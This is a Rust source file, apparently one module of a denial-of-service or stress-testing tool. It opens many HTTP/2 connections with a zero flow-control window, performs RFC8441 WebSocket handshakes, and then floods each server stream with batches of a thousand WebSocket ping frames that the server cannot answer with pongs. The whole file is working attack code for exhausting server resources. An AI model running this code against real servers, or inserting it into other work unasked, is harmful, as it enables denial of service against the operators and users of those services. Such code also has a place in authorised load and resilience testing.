//! WebSockets over HTTP/2 (RFC8441) that ping and give no window, so that no pong can be sent.

use std::thread;
use std::time::Instant;

use anyhow::{Context, Result, ensure};
use bytes::Bytes;
use h2::ext::Protocol;
use http::{Method, Request};

use super::{Attackers, PAUSE};
use crate::frame;
use crate::handshake;

/// Pings in a DATA frame.
const PINGS_IN_DATA: usize = 1000;

impl Attackers {
    /// A thread for each connection.
    pub(super) fn windows(&self) -> Result<()> {
        thread::scope(|scope| {
            let threads: Vec<_> = (0..self.conns)
                .map(|_| scope.spawn(|| self.window()))
                .collect();
            threads
                .into_iter()
                .try_for_each(|thread| thread.join().expect("no panic"))
        })
    }

    fn window(&self) -> Result<()> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?;
        runtime.block_on(async {
            let mut has_attacked = false;
            while !self.is_over() {
                match self.ping_without_window(&mut has_attacked).await {
                    Err(error) if !has_attacked => return Err(error),
                    _ => tokio::time::sleep(PAUSE).await,
                }
            }
            Ok(())
        })
    }

    async fn ping_without_window(&self, has_attacked: &mut bool) -> Result<()> {
        let socket = tokio::net::TcpStream::connect(self.target.addr).await?;
        let (mut client, mut connection) = h2::client::Builder::new()
            .initial_window_size(0)
            .handshake::<_, Bytes>(socket)
            .await?;
        let attack = async {
            client = client.ready().await?;
            // Not before the server's SETTINGS have come (RFC8441§3).
            let deadline = Instant::now() + handshake::OPEN_TIMEOUT;
            while !client.is_extended_connect_protocol_enabled() {
                ensure!(
                    Instant::now() < deadline,
                    "the server has no extended CONNECT"
                );
                tokio::time::sleep(PAUSE).await;
                ensure!(!self.is_over(), "the server has no extended CONNECT");
            }
            let (addr, path) = (self.target.addr, &self.target.path);
            let mut request = Request::builder()
                .method(Method::CONNECT)
                .uri(format!("http://{addr}{path}"))
                .header("sec-websocket-version", "13")
                .body(())?;
            request
                .extensions_mut()
                .insert(Protocol::from_static("websocket"));
            let (response, mut stream) = client.send_request(request, false)?;
            let status = response.await?.status();
            ensure!(status == 200, "the handshake was refused: {status}");
            *has_attacked = true;
            let ping = frame::masked(frame::PING, &[]);
            let data = Bytes::from(ping.repeat(PINGS_IN_DATA));
            loop {
                stream.reserve_capacity(data.len());
                while stream.capacity() < data.len() {
                    let more = std::future::poll_fn(|cx| stream.poll_capacity(cx)).await;
                    more.context("the stream has ended")??;
                }
                stream.send_data(data.clone(), false)?;
                self.made(PINGS_IN_DATA);
            }
        };
        // The connection does what all its streams need, and it ends with the attack.
        tokio::select! {
            result = attack => result,
            ended = &mut connection => Ok(ended?),
            () = self.until_over() => Ok(()),
        }
    }

    async fn until_over(&self) {
        while !self.is_over() {
            tokio::time::sleep(PAUSE).await;
        }
    }
}
